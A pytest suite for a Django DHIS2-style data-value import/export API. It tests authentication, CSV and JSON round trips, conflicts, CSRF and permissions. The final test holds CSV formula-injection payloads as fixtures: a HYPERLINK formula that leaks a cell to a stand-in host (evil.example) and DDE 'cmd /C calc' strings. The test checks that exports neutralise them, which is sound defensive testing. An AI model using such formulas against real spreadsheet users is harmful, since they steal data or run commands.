"""``/api/dataValueSets`` as a DHIS2 client sees it: Basic authentication, JSON and CSV,
DHIS2's web message around the import summary, and reading back what was posted.

The routes are not in the project's URLs yet (``api_urls`` belongs to the lead): this
module is its own urlconf, the project's URLs plus ``apis_dhis2.urlpatterns`` under
``api/``, exactly as ``api_urls`` will include them.
"""

from __future__ import annotations

import base64
import csv
import io

import orjson
import pytest
from django.core.management import call_command
from django.test import override_settings
from django.urls import include, path

from config import urls as root_urls
from conftest import PASSWORD
from dantoc.reporting import apis_dhis2
from dantoc.reporting.models import DataValue, DataValueChange

urlpatterns = [
    path("api/", include((apis_dhis2.urlpatterns, "reporting_api"), namespace="dhis2")),
    *root_urls.urlpatterns,
]
handler403 = root_urls.handler403
handler404 = root_urls.handler404
handler500 = root_urls.handler500

pytestmark = [pytest.mark.django_db, pytest.mark.urls(__name__)]

URL = "/api/dataValueSets"
KH_TW = "DU_AN=DA1;LOAI_VON=DTPT;NGUON_VON=TW"
KH_DP = "DU_AN=DA1;LOAI_VON=DTPT;NGUON_VON=DP"
EXAMPLE = {
    "dataSet": "BM01-VON",
    "completeDate": "2026-10-05",
    "period": "2026Q3",
    "orgUnit": "00715",
    "dataValues": [
        {"dataElement": "VON_KH", "categoryOptionCombo": KH_TW, "value": "12", "comment": "c1"},
        {"dataElement": "VON_KH", "categoryOptionCombo": KH_DP, "value": "14", "comment": "c2"},
        {"dataElement": "VON_GN", "categoryOptionCombo": KH_TW, "value": "16", "comment": "c3"},
    ],
}
CSV_BODY = (
    "dataelement,period,orgunit,categoryoptioncombo,attributeoptioncombo,value,storedby,"
    "lastupdated,comment,followup,deleted\n"
    f'VON_KH,2026Q3,00715,"{KH_TW}",,12,,,c1,false,false\n'
    f'VON_KH,2026Q3,00715,"{KH_DP}",default,14,,,c2,,\n'
    f'VON_GN,2026Q3,00715,"{KH_TW}",,16,,,c3\n'
)
READ = f"{URL}?dataSet=BM01-VON&period=2026Q3&orgUnit=00715"


def basic(user, password=PASSWORD) -> dict[str, str]:
    token = base64.b64encode(f"{user.username}:{password}".encode()).decode()
    return {"HTTP_AUTHORIZATION": f"Basic {token}"}


def post_json(client, user, body, url=URL, **extra):
    data = body if isinstance(body, (bytes, str)) else orjson.dumps(body)
    return client.post(url, data, content_type="application/json", **basic(user), **extra)


def test_a_dhis2_client_posts_the_manual_example_and_reads_it_back(client, people, today):
    response = post_json(client, people.commune, EXAMPLE)
    assert response.status_code == 200, response.content
    body = response.json()
    assert {k: body[k] for k in ("httpStatus", "httpStatusCode", "status", "message")} == {
        "httpStatus": "OK",
        "httpStatusCode": 200,
        "status": "OK",
        "message": "Import was successful.",
    }
    summary = body["response"]
    assert summary["responseType"] == "ImportSummary" and summary["status"] == "SUCCESS"
    assert summary["importCount"] == {"imported": 3, "updated": 0, "ignored": 0, "deleted": 0}
    assert summary["conflicts"] == [] and summary["dataSetComplete"] == "false"

    read = client.get(READ, **basic(people.commune))
    assert read.status_code == 200 and read["Content-Type"] == "application/json"
    data = read.json()
    assert (data["dataSet"], data["period"], data["orgUnit"]) == ("BM01-VON", "2026Q3", "00715")
    assert sorted(
        (v["dataElement"], v["categoryOptionCombo"], v["value"], v["comment"], v["storedBy"])
        for v in data["dataValues"]
    ) == [
        ("VON_GN", KH_TW, "16", "c3", "xa.lungcu"),
        ("VON_KH", KH_DP, "14", "c2", "xa.lungcu"),
        ("VON_KH", KH_TW, "12", "c1", "xa.lungcu"),
    ]
    # What GET gives is a payload POST accepts: sent back, it changes nothing.
    again = post_json(client, people.commune, read.content)
    assert again.status_code == 200
    assert again.json()["response"]["importCount"] == {
        "imported": 0, "updated": 0, "ignored": 3, "deleted": 0,
    }  # fmt: skip
    # Entered once, sent back unchanged: no history row at all.
    assert not DataValueChange.objects.filter(data_value__unit__code="00715").exists()


@pytest.mark.parametrize("content_type", ["application/csv", "text/csv; charset=utf-8"])
def test_csv_is_accepted_and_given_back(client, people, today, content_type):
    response = client.post(
        f"{URL}?dataSet=BM01-VON", CSV_BODY, content_type=content_type, **basic(people.commune)
    )
    assert response.status_code == 200, response.content
    assert response.json()["response"]["importCount"]["imported"] == 3
    by_accept = client.get(READ, HTTP_ACCEPT="text/csv", **basic(people.commune))
    by_suffix = client.get(READ.replace(URL, f"{URL}.csv"), **basic(people.commune))
    assert by_accept.status_code == by_suffix.status_code == 200
    assert by_accept.content == by_suffix.content
    lines = by_suffix.content.decode().splitlines()
    assert lines[0] == ",".join(apis_dhis2.dhis2.CSV_COLUMNS)
    assert len(lines) == 4 and f"VON_KH,2026Q3,00715,{KH_TW},default,12,xa.lungcu," in lines[3]
    # The CSV we give back imports as a no-op.
    back = client.post(
        f"{URL}?dataSet=BM01-VON", by_suffix.content, content_type="application/csv",
        **basic(people.commune),
    )  # fmt: skip
    assert back.json()["response"]["importCount"]["ignored"] == 3


def test_a_dry_run_answers_the_summary_and_writes_nothing(client, people, today):
    response = post_json(client, people.commune, EXAMPLE, url=f"{URL}?dryRun=true")
    assert response.status_code == 200
    summary = response.json()["response"]
    assert summary["importCount"]["imported"] == 3 and summary["importOptions"]["dryRun"] is True
    assert not DataValue.objects.exists()


def test_refused_values_are_answered_409_with_the_conflicts_and_the_rest_is_saved(
    client, people, today
):
    payload = {
        **EXAMPLE,
        "dataValues": [
            *EXAMPLE["dataValues"],
            {
                "dataElement": "VON_KH",
                "categoryOptionCombo": KH_TW,
                "value": "1",
                "orgUnit": "00700",
            },
            {"dataElement": "VON_KH", "categoryOptionCombo": KH_DP, "value": "abc"},
        ],
    }
    response = post_json(client, people.commune, payload)
    assert response.status_code == 409
    body = response.json()
    assert body["httpStatus"] == "Conflict" and body["status"] == "WARNING"
    assert body["message"] == "One more conflicts encountered, please check import summary."
    summary = body["response"]
    assert summary["status"] == "WARNING"
    # Index 4 is refused, so the earlier value for the same cell (index 1) stands.
    assert summary["importCount"] == {"imported": 3, "updated": 0, "ignored": 2, "deleted": 0}
    assert [(c["errorCode"], c["property"], c["indexes"]) for c in summary["conflicts"]] == [
        ("E7617", "orgUnit", [3]),
        ("E7619", "value", [4]),
    ]
    assert summary["rejectedIndexes"] == [3, 4]
    assert DataValue.objects.filter(unit__code="00715").count() == 3


@pytest.mark.parametrize(
    "body, content_type",
    [
        (b'{"dataSet": "BM01-VON", "dataValues": [', "application/json"),
        (b"not json at all", "application/json"),
        (b'VON_KH,2026Q3,"00715\n', "application/csv"),
        (b"\xff\xfe\x00\x00", "text/csv"),
    ],
)
def test_an_unreadable_payload_gets_an_error_summary_not_a_server_error(
    client, people, today, body, content_type
):
    response = client.post(URL, body, content_type=content_type, **basic(people.commune))
    assert response.status_code == 409
    message = response.json()
    assert message["status"] == "ERROR" and message["response"]["status"] == "ERROR"
    assert message["response"]["description"].startswith("Quá trình nhập thất bại")
    assert message["response"]["importCount"]["imported"] == 0


@override_settings(DATAVALUESETS_MAX_BYTES=1000)
def test_a_body_over_the_limit_is_refused_before_it_is_read(client, people, today):
    big = {**EXAMPLE, "dataValues": EXAMPLE["dataValues"] * 20}
    response = post_json(client, people.commune, big)
    assert response.status_code == 413
    assert "MB" in response.json()["message"]
    assert post_json(client, people.commune, EXAMPLE).status_code == 200


def test_a_large_body_is_imported_from_a_stream_and_a_broken_one_leaves_nothing(
    client, people, today, monkeypatch
):
    # Bodies above the threshold (lowered here) are read from disk a block at a time.
    monkeypatch.setattr(apis_dhis2.dhis2, "STREAM_THRESHOLD", 100)
    monkeypatch.setattr(apis_dhis2.dhis2, "_BLOCK", 128)
    monkeypatch.setattr(apis_dhis2, "SPOOL_IN_MEMORY", 256)
    broken = orjson.dumps({**EXAMPLE, "dataValues": [*EXAMPLE["dataValues"] * 4, "not a value"]})
    response = post_json(client, people.commune, broken)
    assert response.status_code == 409
    assert response.json()["response"]["description"].startswith("Quá trình nhập thất bại")
    assert not DataValue.objects.exists()
    response = post_json(
        client, people.commune, {**EXAMPLE, "dataValues": EXAMPLE["dataValues"] * 4}
    )
    assert response.status_code == 200, response.content
    assert response.json()["response"]["importCount"] == {
        "imported": 3, "updated": 0, "ignored": 9, "deleted": 0,
    }  # fmt: skip
    csv_response = client.post(
        f"{URL}?dataSet=BM01-VON", CSV_BODY.replace(",12,", ",13,"), content_type="text/csv",
        **basic(people.commune),
    )  # fmt: skip
    assert csv_response.json()["response"]["importCount"]["updated"] == 1


def test_wrong_requests_get_clear_answers(client, people, today):
    user = people.commune
    response = client.post(URL, b"dataValueSet: []", content_type="application/yaml", **basic(user))
    assert response.status_code == 415
    assert post_json(client, user, EXAMPLE, url=f"{URL}?importStrategy=MERGE").status_code == 400
    refused = post_json(client, user, EXAMPLE, url=f"{URL}?idScheme=ATTRIBUTE:x1234567890")
    assert refused.status_code == 400 and "UID, CODE" in refused.json()["message"]
    assert not DataValue.objects.exists()


def test_strategies_are_taken_from_the_query(client, people, today):
    post_json(client, people.commune, EXAMPLE)
    response = post_json(client, people.commune, EXAMPLE, url=f"{URL}?importStrategy=DELETE")
    assert response.json()["response"]["importCount"]["deleted"] == 3
    assert client.get(READ, **basic(people.commune)).json()["dataValues"] == []
    deleted = client.get(f"{READ}&includeDeleted=true", **basic(people.commune)).json()
    assert {v["deleted"] for v in deleted["dataValues"]} == {True}


def test_without_valid_credentials_the_client_is_asked_for_basic_authentication(
    client, people, today
):
    anonymous = client.post(URL, orjson.dumps(EXAMPLE), content_type="application/json")
    assert anonymous.status_code == 401
    assert anonymous["WWW-Authenticate"].startswith("Basic")
    bad = client.post(
        URL, orjson.dumps(EXAMPLE), content_type="application/json",
        **basic(people.commune, password="sai-mat-khau"),
    )  # fmt: skip
    assert bad.status_code == 401
    assert client.get(READ).status_code == 401


def test_officers_import_through_a_verified_session_but_not_with_a_bare_password(
    client, people, login, today
):
    refused = post_json(client, people.province, EXAMPLE)
    assert refused.status_code == 403
    # A DHIS2 web message, as every error of this API (issue 14, the contract).
    assert refused.json()["httpStatusCode"] == 403
    assert "2FA" in refused.json()["message"]
    assert not DataValue.objects.exists()
    session = login(people.province)
    response = session.post(URL, orjson.dumps(EXAMPLE), content_type="application/json")
    assert response.status_code == 200, response.content
    assert response.json()["response"]["importCount"]["imported"] == 3
    assert set(DataValue.objects.values_list("created_by__username", flat=True)) == {
        "tinh.tuyenquang"
    }


def csrf_enforcing_session(login, user):
    """A browser signed in as ``user`` (password and 2FA) whose posts are CSRF-checked as in
    production, and the token its pages hand to scripts (the ``csrftoken`` cookie)."""
    from django.test import Client

    signed_in = login(user)
    browser = Client(enforce_csrf_checks=True)
    browser.cookies = signed_in.cookies
    assert browser.get("/").status_code == 200  # a page with a form sets the CSRF cookie
    return browser, browser.cookies["csrftoken"].value


@pytest.mark.parametrize("kind", ["csv", "large_json"])
def test_an_officer_imports_csv_and_large_json_through_the_browser_session_with_the_csrf_header(
    login, people, today, kind
):
    browser, token = csrf_enforcing_session(login, people.province)
    if kind == "csv":
        url, body, content_type = f"{URL}?dataSet=BM01-VON", CSV_BODY, "text/csv"
    else:
        # Over Django's 2.5 MB form-data limit: the same cells many times, the last one wins.
        values = [
            {**value, "comment": f"{value['comment']} lần {n}"}
            for n in range(12_000)
            for value in EXAMPLE["dataValues"]
        ]
        body = orjson.dumps({**EXAMPLE, "dataValues": values})
        assert len(body) > 2.5 * 1024 * 1024
        url, content_type = URL, "application/json"
    without_token = browser.post(url, body, content_type=content_type)
    assert without_token.status_code == 403 and "CSRF" in without_token.json()["message"]
    assert not DataValue.objects.exists()
    response = browser.post(url, body, content_type=content_type, HTTP_X_CSRFTOKEN=token)
    assert response.status_code == 200, response.content[:500]
    assert response.json()["response"]["importCount"]["imported"] == 3
    assert set(DataValue.objects.values_list("created_by__username", flat=True)) == {
        "tinh.tuyenquang"
    }


def test_reading_is_limited_to_units_the_user_may_view(
    client, people, login, today, django_assert_max_num_queries
):
    post_json(client, people.commune, EXAMPLE)
    outsider = client.get(READ, **basic(people.other_commune))
    assert outsider.status_code == 409 and outsider.json()["errorCode"] == "E2012"
    session = login(people.province)
    with django_assert_max_num_queries(20):
        children = session.get(f"{URL}?dataSet=BM01-VON&period=2026Q3&orgUnit=08&children=true")
    assert children.status_code == 200
    values = children.json()["dataValues"]
    assert {v["orgUnit"] for v in values} == {"00715"} and len(values) == 3
    assert "orgUnit" not in children.json()


@pytest.mark.parametrize(
    "query, code",
    [
        ("period=2026Q3&orgUnit=00715", "E2013"),
        ("dataSet=BM01-VON&orgUnit=00715", "E2002"),
        ("dataSet=BM01-VON&period=2026Q3", "E2006"),
        ("dataSet=NOPE&period=2026Q3&orgUnit=00715", "E1105"),
        ("dataSet=BM01-VON&period=2026X&orgUnit=00715", "E1101"),
        ("dataSet=BM01-VON&period=2026Q3&orgUnit=99999", "E1102"),
    ],
)
def test_a_read_missing_what_dhis2_requires_is_refused(client, people, query, code):
    response = client.get(f"{URL}?{query}", **basic(people.commune))
    assert response.status_code == 409
    assert response.json()["errorCode"] == code


def test_versioned_and_suffixed_routes_answer_too(client, people, today):
    assert (
        post_json(client, people.commune, EXAMPLE, url="/api/40/dataValueSets").status_code == 200
    )
    versioned = client.get(READ.replace(URL, "/api/40/dataValueSets.json"), **basic(people.commune))
    suffixed = client.get(READ.replace(URL, f"{URL}.json"), **basic(people.commune))
    assert versioned.status_code == suffixed.status_code == 200
    assert versioned.json() == suffixed.json()
    assert len(suffixed.json()["dataValues"]) == 3
    # A browser's Accept header gets JSON rather than 406.
    browser = client.get(READ, HTTP_ACCEPT="text/html", **basic(people.commune))
    assert browser.status_code == 200 and browser.json() == suffixed.json()


def test_the_api_schema_documents_the_endpoint_without_warnings(client, tmp_path):
    schema = client.get("/api/schema/?format=json")
    assert schema.status_code == 200
    paths = orjson.loads(schema.content)["paths"]
    assert set(paths["/api/dataValueSets"]) == {"get", "post"}
    post = paths["/api/dataValueSets"]["post"]
    assert set(post["requestBody"]["content"]) == {
        "application/json",
        "application/csv",
        "text/csv",
        "application/xml",
        "text/xml",
    }
    call_command(
        "spectacular", "--urlconf", __name__, "--validate", "--fail-on-warn",
        "--file", str(tmp_path / "openapi.yaml"), stdout=io.StringIO(), stderr=io.StringIO(),
    )  # fmt: skip


HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Xem chi tiết")'
CALC = "+cmd|' /C calc'!A0"


def test_a_communes_formula_comment_reaches_the_province_as_inert_text(
    client, people, login, today
):
    body = (
        f'VON_KH,2026Q3,00715,"{KH_TW}",,-5,,,"{HYPERLINK.replace(chr(34), chr(34) * 2)}"\n'
        f'VON_KH,2026Q3,00715,"{KH_DP}",,14,,,"{CALC}"\n'
        f'VON_GN,2026Q3,00715,"{KH_TW}",,16,,,"@SUM(1+1)*cmd|\' /C calc\'!A0"\n'
    )
    imported = client.post(
        f"{URL}?dataSet=BM01-VON", body, content_type="application/csv", **basic(people.commune)
    )
    assert imported.json()["response"]["importCount"]["imported"] == 3, imported.content
    province = login(people.province)
    exported = province.get(READ.replace(URL, f"{URL}.csv"))
    assert exported.status_code == 200
    rows = list(csv.reader(io.StringIO(exported.content.decode())))[1:]
    by_comment = {row[8]: row for row in rows}
    # Each comment is quote-prefixed, the way a spreadsheet reads "this is text".
    assert set(by_comment) == {"'" + HYPERLINK, "'" + CALC, "'@SUM(1+1)*cmd|' /C calc'!A0"}
    assert not any(cell[:1] and cell[0] in "=+@" for row in rows for cell in row)
    # A negative number stays a number.
    assert by_comment["'" + HYPERLINK][5] == "-5"
    # The export imports back unchanged: the prefix is not taken into the comments.
    back = client.post(
        f"{URL}?dataSet=BM01-VON", exported.content, content_type="application/csv",
        **basic(people.commune),
    )  # fmt: skip
    assert back.json()["response"]["importCount"] == {
        "imported": 0, "updated": 0, "ignored": 3, "deleted": 0,
    }  # fmt: skip
    assert set(DataValue.objects.values_list("comment", flat=True)) == {
        HYPERLINK,
        CALC,
        "@SUM(1+1)*cmd|' /C calc'!A0",
    }
